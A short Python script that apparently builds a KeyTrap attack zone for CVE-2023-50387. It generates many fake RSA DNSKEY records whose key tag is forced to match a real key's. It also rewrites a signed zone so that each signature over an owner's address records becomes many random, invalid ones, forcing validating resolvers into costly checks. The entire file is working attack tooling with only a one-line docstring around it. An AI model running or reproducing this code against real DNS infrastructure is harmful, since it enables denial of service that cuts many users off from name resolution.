"""A zone that is dear to validate (CVE-2023-50387): keys that share a tag, and signatures that fit none of them.

    keytrap.py keys ZONE KEYFILE COUNT      prints COUNT keys with the tag of the key in KEYFILE
    keytrap.py signatures FILE OWNER COUNT  replaces the signature of OWNER's addresses in a signed zone by COUNT wrong ones
"""

import base64
import os
import sys


def tag_of(data):
    total = sum(octet << 8 if at % 2 == 0 else octet for at, octet in enumerate(data))
    return (total + (total >> 16)) & 0xFFFF


def keys(zone, keyfile, count):
    with open(keyfile, encoding="ascii") as lines:
        words = next(line for line in lines if " DNSKEY " in line).split()
    at = words.index("DNSKEY")
    flags, protocol, algorithm = (int(word) for word in words[at + 1 : at + 4])
    head = flags.to_bytes(2, "big") + bytes([protocol, algorithm])
    wanted = tag_of(head + base64.b64decode("".join(words[at + 4 :])))
    found = 0
    while found < count:
        # RSA: an exponent of 65537, and an odd number that nobody knows the factors of.
        public = bytearray(b"\3\1\0\1\xf0" + os.urandom(254) + b"\1")
        public[100:102] = b"\0\0"
        # The tag is a sum, so two octets make it what it should be; carries take a few tries.
        public[100:102] = ((wanted - tag_of(head + public)) & 0xFFFF).to_bytes(2, "big")
        if tag_of(head + public) == wanted:
            print(zone, 300, "IN DNSKEY", flags, protocol, algorithm, base64.b64encode(public).decode())
            found += 1


def signatures(path, owner, count):
    with open(path, encoding="ascii") as zone:
        lines = zone.readlines()
    kept = []
    for line in lines:
        words = line.split()
        if words[:1] == [owner] and words[3:5] == ["RRSIG", "A"]:
            for _ in range(count):
                wrong = base64.b64encode(os.urandom(256)).decode()
                kept.append(" ".join(words[:12] + [wrong]) + "\n")
        else:
            kept.append(line)
    with open(path, "w", encoding="ascii") as zone:
        zone.writelines(kept)


if sys.argv[1] == "keys":
    keys(sys.argv[2], sys.argv[3], int(sys.argv[4]))
else:
    signatures(sys.argv[2], sys.argv[3], int(sys.argv[4]))
